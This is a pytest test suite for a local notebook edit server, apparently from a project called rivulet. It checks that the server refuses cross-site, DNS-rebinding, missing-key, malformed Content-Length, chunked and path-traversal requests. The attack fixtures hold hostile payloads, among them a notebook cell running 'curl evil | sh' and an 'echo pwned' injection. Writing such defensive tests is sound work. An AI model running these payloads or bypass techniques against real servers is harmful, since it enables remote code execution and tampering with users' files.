"""`rivulet edit`'s server: the page reads and writes the one notebook file;
nothing else (another site, a DNS-rebound name, a notebook's own Python
without the per-run key, a malformed body) reads or changes it."""

from __future__ import annotations

import http.client
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from kernel_py.host.edit_server import EDIT_MARKER, FILE_URL, KEY_HEADER, MAX_BYTES, MODULES_URL, edit_url, etag, make_server
from raw_http import raw_request

ORIGINAL = "import marimo\n\nSECRET = 'the user s own notebook'\n".encode()
INDEX = b"<!doctype html><html><head><title>site</title></head><body></body></html>"


@dataclass
class Edit:
    port: int
    key: str
    notebook: Path
    url: str

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.port}"

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def headers(self, **extra: str) -> dict[str, str]:
        """What the page sends: its own Host, same-origin, the key (and, for a
        save, the version of the text it read)."""
        return {"Host": self.host, KEY_HEADER: self.key, "If-Match": etag(ORIGINAL), **extra}


@pytest.fixture
def edit(tmp_path: Path) -> Iterator[Edit]:
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_bytes(INDEX)
    (site / "worker.mjs").write_text("export {};\n")
    (site / "pyodide.asm.wasm").write_bytes(b"\0asm\1\0\0\0")
    notebook = tmp_path / "nb.py"
    notebook.write_bytes(ORIGINAL)
    srv = make_server(notebook, site, 0)
    thread = threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    yield Edit(srv.server_address[1], srv.key, notebook, edit_url(srv))
    srv.shutdown()
    srv.server_close()


def request(
    edit: Edit, method: str, path: str, headers: dict[str, str], body: bytes | None = None
) -> tuple[int, http.client.HTTPMessage, bytes]:
    """One raw request: exactly these headers (no Host or Content-Length added)."""
    return raw_request(edit.port, method, path, headers, body)


# ------------------------------------------------------------------ the page


def test_the_url_carries_the_key_only_in_its_fragment(edit):
    assert edit.url == f"http://127.0.0.1:{edit.port}/?file={FILE_URL}&save=put#key={edit.key}"
    assert len(edit.key) >= 43  # token_urlsafe(32)


def test_the_page_reads_and_writes_the_notebook_file_with_the_key(edit):
    status, headers, body = request(edit, "GET", FILE_URL, edit.headers())
    assert (status, body) == (200, ORIGINAL)
    assert headers["Cache-Control"] == "no-store"
    text = "import marimo\n\nx = '🟢'\n".encode()
    put = edit.headers(**{"Origin": edit.origin, "Sec-Fetch-Site": "same-origin", "Content-Length": str(len(text))})
    status, _, _ = request(edit, "PUT", FILE_URL, put, text)
    assert status == 204
    assert edit.notebook.read_bytes() == text
    assert request(edit, "GET", FILE_URL, edit.headers())[2] == text


def test_localhost_is_the_same_server(edit):
    host = f"localhost:{edit.port}"
    headers = edit.headers(Host=host, Origin=f"http://{host}", **{"Sec-Fetch-Site": "same-origin"})
    assert request(edit, "GET", FILE_URL, headers)[:3:2] == (200, ORIGINAL)


@pytest.mark.parametrize("path", ["/", "/index.html", "/?file=/__rivulet__/file&save=put", "/index.html?x=1", "//"])
def test_the_site_index_carries_the_edit_marker(edit, path):
    status, headers, body = request(edit, "GET", path, {"Host": edit.host})
    assert status == 200
    assert body == INDEX.replace(b"<head>", b"<head>" + EDIT_MARKER)
    assert body.startswith(b"<!doctype html><html><head><meta name=\"rivulet-edit\" content=\"/__rivulet__/file\">")
    assert int(headers["Content-Length"]) == len(body)
    assert headers["Cache-Control"] == "no-store"
    assert edit.key.encode() not in body


def test_head_of_the_index_matches_get(edit):
    status, headers, body = request(edit, "HEAD", "/", {"Host": edit.host})
    assert (status, body) == (200, b"")
    assert int(headers["Content-Length"]) == len(INDEX) + len(EDIT_MARKER)


@pytest.mark.parametrize(
    ("path", "content_type"),
    [("/worker.mjs", "text/javascript"), ("/pyodide.asm.wasm", "application/wasm")],
)
def test_static_files_have_the_types_the_browser_needs(edit, path, content_type):
    status, headers, _ = request(edit, "GET", path, {"Host": edit.host})
    assert (status, headers["Content-Type"]) == (200, content_type)


# ------------------------------------------------------------------ attacks

LONG_BODY = b"import marimo\n" + b"#" * 64


@dataclass
class Attack:
    name: str
    method: str
    status: int
    headers: dict[str, str | None]  # None removes one of the page's headers
    body: bytes | None = None
    path: str = FILE_URL


def _attacks() -> list[Attack]:
    evil = "import marimo\n\n@app.cell\ndef _():\n    __import__('os').system('curl evil | sh')\n".encode()
    n = str(len(evil))
    attacks = []
    for method, body, length in (("GET", None, None), ("PUT", evil, n)):
        sized = {"Content-Length": length} if length else {}
        attacks += [
            Attack(f"{method} without the key", method, 403, {KEY_HEADER: None, **sized}, body),
            Attack(f"{method} with a wrong key", method, 403, {KEY_HEADER: "guess", **sized}, body),
            Attack(f"{method} with an empty key", method, 403, {KEY_HEADER: "", **sized}, body),
            Attack(f"{method} from a rebound name", method, 421, {"Host": "evil.example:{port}", **sized}, body),
            Attack(f"{method} from a nip.io name", method, 421, {"Host": "127.0.0.1.nip.io:{port}", **sized}, body),
            Attack(f"{method} with a portless nip.io Host", method, 421, {"Host": "127.0.0.1.nip.io", **sized}, body),
            Attack(f"{method} with a Host on another port", method, 421, {"Host": "127.0.0.1:1", **sized}, body),
            Attack(f"{method} without a Host", method, 400, {"Host": None, **sized}, body),
            Attack(f"{method} from another site", method, 403, {"Origin": "http://evil.example", **sized}, body),
            Attack(f"{method} from another port", method, 403, {"Origin": "http://127.0.0.1:1", **sized}, body),
            Attack(f"{method} from an opaque origin", method, 403, {"Origin": "null", **sized}, body),
            Attack(f"{method} cross-site", method, 403, {"Sec-Fetch-Site": "cross-site", **sized}, body),
            Attack(f"{method} same-site", method, 403, {"Sec-Fetch-Site": "same-site", **sized}, body),
            Attack(f"{method} from the address bar", method, 403, {"Sec-Fetch-Site": "none", **sized}, body),
        ]
    chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (len(evil), evil)
    attacks += [
        Attack("chunked PUT (emptied the file)", "PUT", 411, {"Transfer-Encoding": "chunked"}, chunk),
        Attack("chunked PUT with a Content-Length", "PUT", 411, {"Transfer-Encoding": "chunked", "Content-Length": n}, chunk),
        Attack("PUT without a length", "PUT", 411, {}, evil),
        Attack("Content-Length: -1 (passed the cap)", "PUT", 400, {"Content-Length": "-1"}, evil),
        Attack("Content-Length: abc", "PUT", 400, {"Content-Length": "abc"}, evil),
        Attack("Content-Length: +5", "PUT", 400, {"Content-Length": "+5"}, evil),
        Attack("Content-Length in superscript digits", "PUT", 400, {"Content-Length": "\u00b2"}, evil),
        Attack("oversize Content-Length", "PUT", 413, {"Content-Length": str(MAX_BYTES + 1)}, evil),
        Attack("huge Content-Length", "PUT", 413, {"Content-Length": "9" * 5000}, evil),
        Attack("empty body", "PUT", 400, {"Content-Length": "0"}, b""),
        Attack("non-UTF-8 body", "PUT", 400, {"Content-Length": "2"}, b"\xff\xfe"),
        Attack("a body shorter than its length", "PUT", 400, {"Content-Length": "1000"}, LONG_BODY),
        Attack("OPTIONS preflight", "OPTIONS", 501, {"Origin": "http://evil.example"}),
        Attack("POST", "POST", 501, {"Content-Length": n}, evil),
        Attack("DELETE", "DELETE", 501, {}),
        Attack("static file from a rebound name", "GET", 421, {"Host": "evil.example:{port}"}, path="/"),
        Attack("the file under a network-path", "GET", 404, {KEY_HEADER: None}, path="//evil" + FILE_URL),
        Attack("the file as an absolute URL", "GET", 404, {KEY_HEADER: None}, path="http://evil" + FILE_URL),
        Attack("the file percent-encoded", "GET", 404, {KEY_HEADER: None}, path="/__rivulet__/%66ile"),
    ]
    return attacks


@pytest.mark.parametrize("attack", _attacks(), ids=lambda a: a.name)
def test_an_attack_is_refused_and_the_file_is_untouched(edit, attack):
    headers = {**edit.headers(), **attack.headers}
    headers = {k: v.format(port=edit.port) for k, v in headers.items() if v is not None}
    if attack.name.startswith("a body shorter"):
        status = _short_body(edit, headers, attack.body)
        body = b""
    else:
        status, _, body = request(edit, attack.method, attack.path, headers, attack.body)
    assert status == attack.status
    assert ORIGINAL not in body and b"SECRET" not in body
    assert edit.notebook.read_bytes() == ORIGINAL
    assert [p.name for p in edit.notebook.parent.iterdir() if "rivulet-tmp" in p.name] == []


def _short_body(edit: Edit, headers: dict[str, str], body: bytes) -> int:
    """Send fewer bytes than Content-Length, then close our side for writing."""
    with socket.create_connection(("127.0.0.1", edit.port), timeout=10) as sock:
        head = f"PUT {FILE_URL} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers.items())
        sock.sendall(head.encode() + b"\r\n" + body)
        sock.shutdown(socket.SHUT_WR)
        answer = sock.makefile("rb").read()
    return int(answer.split(b" ", 2)[1]) if answer else 0


def test_repeated_headers_are_refused(edit):
    conn = http.client.HTTPConnection("127.0.0.1", edit.port, timeout=10)
    conn.putrequest("GET", FILE_URL, skip_host=True, skip_accept_encoding=True)
    conn.putheader("Host", edit.host)
    conn.putheader("Host", "evil.example")
    conn.putheader(KEY_HEADER, edit.key)
    conn.endheaders()
    response = conn.getresponse()
    assert response.status == 400
    assert ORIGINAL not in response.read()
    conn.close()


# ------------------------------------------------------------------ changes on disk


def test_an_unchanged_file_answers_304_to_its_etag(edit):
    status, headers, _ = request(edit, "GET", FILE_URL, edit.headers())
    tag = headers["ETag"]
    assert tag == etag(ORIGINAL)
    status, headers, body = request(edit, "GET", FILE_URL, edit.headers(**{"If-None-Match": tag}))
    assert (status, body, headers["ETag"]) == (304, b"", tag)
    edit.notebook.write_bytes(b"import marimo\n\nchanged = 'by git pull'\n")
    status, headers, body = request(edit, "GET", FILE_URL, edit.headers(**{"If-None-Match": tag}))
    assert status == 200 and b"by git pull" in body
    assert headers["ETag"] == etag(body) != tag


def _put(edit: Edit, text: bytes, version: str | None) -> tuple[int, http.client.HTTPMessage]:
    headers = {**edit.headers(), "Content-Length": str(len(text))}
    if version is None:
        del headers["If-Match"]
    else:
        headers["If-Match"] = version
    status, answer, _ = request(edit, "PUT", FILE_URL, headers, text)
    return status, answer


def test_a_save_names_the_version_it_replaces_and_gets_the_new_one(edit):
    mine = b"import marimo\n\nmine = 1\n"
    status, headers = _put(edit, mine, etag(ORIGINAL))
    assert (status, headers["ETag"]) == (204, etag(mine))
    assert edit.notebook.read_bytes() == mine
    again = b"import marimo\n\nmine = 2\n"
    assert _put(edit, again, etag(mine))[0] == 204
    assert edit.notebook.read_bytes() == again


def test_a_save_without_a_version_is_refused(edit):
    assert _put(edit, b"import marimo\n\nx = 1\n", None)[0] == 428
    assert edit.notebook.read_bytes() == ORIGINAL


def test_a_save_over_a_file_changed_on_disk_is_refused_and_writes_nothing(edit):
    theirs = b"import marimo\n\ntheirs = 'from another editor'\n"
    edit.notebook.write_bytes(theirs)
    status, _ = _put(edit, b"import marimo\n\nmine = 1\n", etag(ORIGINAL))
    assert status == 412
    assert edit.notebook.read_bytes() == theirs
    # the page reads theirs (and its version), then may overwrite it knowingly
    status, headers, body = request(edit, "GET", FILE_URL, edit.headers())
    assert body == theirs
    assert _put(edit, b"import marimo\n\nmine = 1\n", headers["ETag"])[0] == 204


def test_a_file_removed_on_disk_is_404_and_a_save_does_not_recreate_it(edit):
    edit.notebook.unlink()
    assert request(edit, "GET", FILE_URL, edit.headers())[0] == 404
    assert _put(edit, b"import marimo\n", etag(ORIGINAL))[0] == 412
    assert not edit.notebook.exists()


def _recreate(edit: Edit, text: bytes, query: str = "", **extra: str) -> tuple[int, http.client.HTTPMessage]:
    headers = {**edit.headers(), "Content-Length": str(len(text)), "If-None-Match": "*"}
    del headers["If-Match"]
    headers.update(extra)
    status, answer, _ = request(edit, "PUT", FILE_URL + query, headers, text)
    return status, answer


def test_a_deleted_file_is_recreated_by_a_save_that_says_nothing_is_there(edit):
    edit.notebook.unlink()
    mine = b"import marimo\n\nmine = 'saved again'\n"
    status, headers = _recreate(edit, mine)
    assert (status, headers["ETag"]) == (201, etag(mine))
    assert edit.notebook.read_bytes() == mine
    # once there, it is an ordinary file again: recreating is refused, saving with its version works
    assert _recreate(edit, b"import marimo\n\nagain = 1\n")[0] == 412
    assert edit.notebook.read_bytes() == mine
    assert _put(edit, b"import marimo\n\nnext = 1\n", etag(mine))[0] == 204


def test_a_recreate_cannot_create_any_other_file_nor_replace_one(edit):
    base = edit.notebook.parent
    before = sorted(p.name for p in base.iterdir())
    evil = b"import marimo\n\n__import__('os').system('echo pwned')\n"
    # the file is there: nothing is replaced
    assert _recreate(edit, evil)[0] == 412
    assert edit.notebook.read_bytes() == ORIGINAL
    edit.notebook.unlink()
    refused = [
        _recreate(edit, evil, "?path=other.py"),  # the one-file server takes no path
        _recreate(edit, evil, "?path=../nb.py"),
        _recreate(edit, evil, **{"If-None-Match": etag(ORIGINAL)}),  # only `*` means "nothing there"
        _recreate(edit, evil, **{"If-Match": etag(ORIGINAL)}),  # both preconditions: refused
        _recreate(edit, evil, **{KEY_HEADER: "guess"}),
        _recreate(edit, evil, Origin="http://evil.example"),
        _recreate(edit, evil, **{"Sec-Fetch-Site": "cross-site"}),
        _recreate(edit, evil, Host="evil.example"),
    ]
    assert [status for status, _ in refused] == [400, 400, 400, 400, 403, 403, 403, 421]
    assert sorted(p.name for p in base.iterdir()) == sorted(set(before) - {"nb.py"})
    # a link put where the file was is not written through
    (base / "elsewhere.py").write_bytes(b"import marimo\n")
    edit.notebook.symlink_to(base / "elsewhere.py")
    assert _recreate(edit, evil)[0] == 412
    assert (base / "elsewhere.py").read_bytes() == b"import marimo\n"
    # nor is a folder made for it
    edit.notebook.unlink()
    (base / "elsewhere.py").unlink()
    assert _recreate(edit, ORIGINAL)[0] == 201


def test_one_file_server_takes_no_path(edit):
    assert request(edit, "GET", FILE_URL + "?path=nb.py", edit.headers())[0] == 400
    assert request(edit, "GET", "/__rivulet__/list", edit.headers())[0] == 404


# ------------------------------------------------------------------ which site


def test_the_site_is_rivulet_site_then_the_packaged_one_then_the_checkouts_dist(tmp_path, monkeypatch):
    from kernel_py.host import edit_server

    chosen, packaged = tmp_path / "chosen", tmp_path / "packaged"
    for site in (chosen, packaged):
        site.mkdir()
        (site / "index.html").write_bytes(INDEX)
    monkeypatch.setattr(edit_server, "PACKAGED_SITE", packaged)
    monkeypatch.setenv("RIVULET_SITE", str(chosen))
    assert edit_server.site_dir() == chosen
    monkeypatch.delenv("RIVULET_SITE")
    assert edit_server.site_dir() == packaged
    (packaged / "index.html").unlink()  # not built into the package: the checkout's dist/ (if built)
    checkout = Path(edit_server.__file__).resolve().parents[2] / "dist"
    assert edit_server.site_dir() == (checkout if (checkout / "index.html").is_file() else None)


# ------------------------------------------------------------------ modules beside the notebook


def test_the_kernel_reads_a_module_beside_the_notebook_without_the_key(edit):
    (edit.notebook.parent / "helpers.py").write_text("def twice(x):\n    return 2 * x\n")
    headers = {"Host": edit.host, "Origin": edit.origin, "Sec-Fetch-Site": "same-origin"}
    status, got, body = request(edit, "GET", MODULES_URL + "helpers.py", headers)
    assert (status, body) == (200, b"def twice(x):\n    return 2 * x\n")
    assert got["Content-Type"].startswith("text/x-python")


@pytest.mark.parametrize(
    "name",
    ["missing.py", "nb.py", "..%2Fnb.py", "../nb.py", "sub/helpers.py", "helpers.txt", "link.py", ".hidden.py", "site"],
)
def test_only_plain_modules_in_the_notebooks_own_folder_are_served(edit, name):
    folder = edit.notebook.parent
    (folder / "helpers.txt").write_text("secret")
    (folder / "sub").mkdir()
    (folder / "sub" / "helpers.py").write_text("x = 1")
    (folder / ".hidden.py").write_text("x = 1")
    outside = folder.parent / "outside.py"
    outside.write_text("secret = 1")
    (folder / "link.py").symlink_to(outside)
    status, _, body = request(edit, "GET", MODULES_URL + name, {"Host": edit.host})
    assert status == 404 and b"secret" not in body


def test_other_sites_cannot_read_a_module_beside_the_notebook(edit):
    (edit.notebook.parent / "helpers.py").write_text("token = 'x'")
    for headers in ({"Host": edit.host, "Origin": "http://evil.example"},
                    {"Host": edit.host, "Sec-Fetch-Site": "cross-site"},
                    {"Host": "evil.example"}):
        status, _, body = request(edit, "GET", MODULES_URL + "helpers.py", headers)
        assert status in (403, 421) and b"token" not in body
